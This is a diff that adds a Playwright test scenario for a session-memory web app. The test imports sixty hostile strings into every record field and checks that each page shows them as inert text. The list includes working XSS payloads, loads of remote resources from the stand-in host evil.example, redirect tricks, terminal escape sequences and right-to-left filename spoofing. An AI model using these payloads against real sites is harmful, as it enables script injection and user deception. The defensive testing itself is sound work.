@@ -1,0 +1,243 @@
+// Hostile texts in every place where the page shows text of memory: they are shown, letter by letter, and do nothing.
+import assert from "node:assert/strict";
+import { writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import type { Page } from "playwright-core";
+import { asShown } from "../../../src/page/words.ts";
+import { inBrowser, openPage } from "../browser.ts";
+import type { Scenario } from "../scenario.ts";
+
+const act = "globalThis.acted=1";
+
+/** Sixty texts that want to be more than text, each with its number, so that it is found again. */
+const hostile: readonly string[] = [
+  `<script>${act}</script>`,
+  `</script><script>${act}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<script type="module">import("//evil.example/x.js")</script>`,
+  `<scr<script>ipt>${act}</scr</script>ipt>`,
+  `<img src=x onerror="${act}">`,
+  `<img src="//evil.example/pixel.png">`,
+  `<img/src=x/onerror=${act}>`,
+  `<svg onload="${act}"></svg>`,
+  `<svg><script>${act}</script></svg>`,
+  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
+  `<svg><a xlink:href="javascript:${act}"><text y=20>click</text></a></svg>`,
+  `<math><mtext><style><img src=x onerror="${act}"></style></mtext></math>`,
+  `<body onload="${act}">`,
+  `<iframe src="javascript:${act}"></iframe>`,
+  `<iframe srcdoc="<script>parent.acted=1</script>"></iframe>`,
+  `<object data="javascript:${act}"></object>`,
+  `<embed src="//evil.example/x.swf">`,
+  `<video><source onerror="${act}"></video>`,
+  `<audio src=x onerror="${act}"></audio>`,
+  `<details open ontoggle="${act}">x</details>`,
+  `<input autofocus onfocus="${act}">`,
+  `<select autofocus onfocus="${act}"></select>`,
+  `<marquee onstart="${act}">x</marquee>`,
+  `<a href="javascript:${act}">click</a>`,
+  `<a href="data:text/html,<script>${act}</script>">click</a>`,
+  `javascript:${act}`,
+  `JaVaScRiPt:${act}//`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `[click](javascript:${act})`,
+  `![x](//evil.example/pixel.png)`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
+  `<link rel="stylesheet" href="//evil.example/x.css">`,
+  `<style>body{display:none}</style>`,
+  `<style>@import "//evil.example/x.css";</style>`,
+  `<form action="//evil.example"><button>Save</button></form>`,
+  `<template><img src=x onerror="${act}"></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
+  `<!--<img src="--><img src=x onerror=${act}//">`,
+  `<![CDATA[<script>${act}</script>]]>`,
+  `"><script>${act}</script>`,
+  `' onmouseover='${act}' x='`,
+  `" autofocus onfocus="${act}`,
+  `\`\${${act}}\``,
+  `{{constructor.constructor('${act}')()}}`,
+  `&lt;script&gt;${act}&lt;/script&gt;`,
+  `&#60;script&#62;${act}&#60;/script&#62;`,
+  `%3Cscript%3E${act}%3C/script%3E`,
+  `\\u003cscript\\u003e${act}`,
+  `<div id="page"></div><div id="query"></div>`,
+  `<x style="position:fixed;inset:0">cover</x>`,
+  `\u001b[31mred\u001b[0m and \u001b[2J`,
+  `\u001b]8;;javascript:${act}\u0007link\u001b]8;;\u0007`,
+  `report\u202efdp.exe`,
+  `\u2066left\u2069 \u202dover\u202c`,
+  `a\u0000b\u0007c\u0008d\u007f`,
+  `שלום <b>${act}</b> مرحبا`,
+  `日本語の<i>${act}</i>長い文`,
+  `${"unbroken".repeat(250)}<u>${act}</u>`,
+];
+
+const session = "hostile-session";
+const client = "claude-code";
+const time = Date.UTC(2026, 10, 1, 9);
+
+/** Every kind of record with the text in each of its fields, as an export's lines. */
+function recordsWith(text: string, at: number): object[] {
+  const common = { session, client, project: "shop", promptNumber: at + 1, time: time + at };
+  const provenance = { strategy: "heuristic", model: null };
+  const evidence = [{ turn: at + 1, piece: 0 }];
+  return [
+    { kind: "prompt", record: { ...common, text } },
+    {
+      kind: "turn",
+      record: {
+        ...{ ...common, startedAt: time + at, end: "closed" },
+        pieces: [
+          { kind: "prompt", text },
+          { kind: "failure", text, about: text, described: text, agent: text },
+          { kind: "closing", text },
+        ],
+        files: [{ path: text, changed: true }],
+      },
+    },
+    {
+      kind: "observation",
+      record: {
+        ...{ ...common, type: "discovery", title: text, subtitle: text, facts: [text] },
+        ...{ narrative: text, concepts: ["text"], filesRead: [text], filesModified: [text] },
+        ...{ toolUseIds: [], discoveryTokens: null, observerTokens: 0, provenance, evidence },
+      },
+    },
+    {
+      kind: "summary",
+      record: {
+        ...{ ...common, scope: "prompt", request: text, investigated: text, learned: text },
+        ...{ completed: text, nextSteps: text, notes: text, filesRead: [], filesEdited: [] },
+        ...{ observerTokens: 0, provenance },
+      },
+    },
+    {
+      kind: "memory",
+      record: {
+        ...{ kind: "facts", date: "2026-11-01", content: text, context: text, quote: text },
+        ...{ session, project: "shop", state: "standing" },
+      },
+    },
+  ];
+}
+
+/** A session of each text, too: its title, its project's name. */
+function sessionWith(text: string, at: number): object {
+  const project = { id: `shop-${at}`, name: text, root: "/shop" };
+  return {
+    kind: "session",
+    record: {
+      ...{ id: `hostile-${at}`, client, project, title: text, subtitle: text, prompts: 1 },
+      ...{ status: "ended", startedAt: time + at, lastActiveAt: time + at, endedAt: time + at },
+    },
+  };
+}
+
+/** As the page shows it, whatever blanks a line has. */
+const shown = (text: string) => asShown(text).replace(/\s+/g, " ").trim();
+
+/** All that a view says. */
+async function saidBy(page: Page): Promise<string> {
+  return ((await page.locator("body").textContent()) ?? "").replace(/\s+/g, " ");
+}
+
+/** Nothing acted, nothing but the page's own elements is there, and nothing leads elsewhere. */
+async function assertHarmless(page: Page): Promise<void> {
+  const found = await page.evaluate(() => ({
+    acted: Reflect.get(globalThis, "acted"),
+    foreign: [...document.body.querySelectorAll("*")]
+      .filter(
+        (element) =>
+          element.matches(
+            "script, style, link, meta, base, img, svg, math, iframe, object, embed, video, audio, details, marquee, template, x, b, i, u",
+          ) || [...element.attributes].some(({ name }) => /^on|^style$|^src/.test(name)),
+      )
+      .map((element) => element.outerHTML.slice(0, 120)),
+    away: [...document.querySelectorAll("a")]
+      .filter((link) => link.origin !== location.origin)
+      .map((link) => link.href),
+    scripts: document.scripts.length,
+  }));
+  assert.deepEqual(found, { acted: undefined, foreign: [], away: [], scripts: 1 }, page.url());
+  const beyond = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+  assert.ok(beyond <= 0, `${page.url()} is ${beyond} px too wide`);
+}
+
+export const pageHostileScenarios: Scenario[] = [
+  {
+    name: "page: sixty hostile texts are shown as text in every view",
+    needs: "chromium",
+    async run(world) {
+      assert.equal(hostile.length, 60);
+      const memoir = await world.install();
+      const file = join(world.dir, "hostile.jsonl");
+      const own = { id: session, client, project: { id: "shop", name: "shop", root: "/shop" } };
+      const whole = {
+        kind: "session",
+        record: { ...own, status: "ended", prompts: hostile.length },
+      };
+      const times = {
+        startedAt: time,
+        lastActiveAt: time + 1,
+        endedAt: time + 1,
+        title: "All of it",
+      };
+      const lines = [
+        { memoir: "export", version: 1, time: new Date(time).toISOString(), by: "a test" },
+        { ...whole, record: { ...whole.record, ...times } },
+        ...hostile.flatMap(recordsWith),
+        ...hostile.map(sessionWith),
+        { memoir: "end", records: 1 + hostile.length * 6 },
+      ];
+      await writeFile(file, lines.map((line) => JSON.stringify(line)).join("\n"));
+      const imported = await memoir.run("import", file);
+      assert.equal(imported.code, 0, imported.stdout + imported.stderr);
+      await inBrowser(world, async ({ page, complaints }) => {
+        const origin = await openPage(memoir, page);
+        await page.setViewportSize({ width: 360, height: 900 });
+
+        /** Goes there and gives all that it says, once it has come. */
+        async function view(path: string, mark: string): Promise<string> {
+          await page.goto(origin + path);
+          await page.locator(mark).first().waitFor();
+          await assertHarmless(page);
+          return saidBy(page);
+        }
+        const said = await view(`/session/${session}`, ".step");
+        const { turns, observations, summaries } = await memoir.records(session);
+        assert.equal(turns.length, hostile.length);
+        for (const { pieces } of turns) {
+          const text = pieces[0]?.text ?? "";
+          assert.ok(text !== "" && said.includes(shown(text)), `session: ${text}`);
+        }
+        assert.equal(observations.length, hostile.length);
+        for (const { id, title } of observations) {
+          const all = await view(`/record/${id}`, ".actions button");
+          const times = all.split(shown(title)).length - 1;
+          assert.ok(times >= 4, `${id}: ${times} times ${title}`);
+        }
+        for (const { id } of [...turns.slice(0, 3), ...summaries.slice(0, 3)])
+          await view(`/record/${id}`, ".actions button");
+        const sessions = await view("/sessions", "a.hit");
+        for (const kind of ["observation", "summary", "turn", "prompt", "memory", "session"]) {
+          await page.goto(`${origin}/search?kind=${kind}`);
+          await page.locator("a.hit").first().waitFor();
+          await page.getByRole("button", { name: "More", exact: true }).click();
+          await page
+            .locator("a.hit")
+            .nth(hostile.length - 1)
+            .waitFor();
+          await assertHarmless(page);
+        }
+        assert.ok(sessions.includes(shown(hostile.at(-1) ?? "x")), "the newest session is listed");
+        await page.goto(
+          `${origin}/search?${new URLSearchParams({ q: hostile[0] ?? "", file: hostile[5] ?? "" })}`,
+        );
+        await page.locator(".hit, .empty").first().waitFor();
+        await assertHarmless(page);
+        assert.deepEqual(complaints, []);
+      });
+    },
+  },
+];
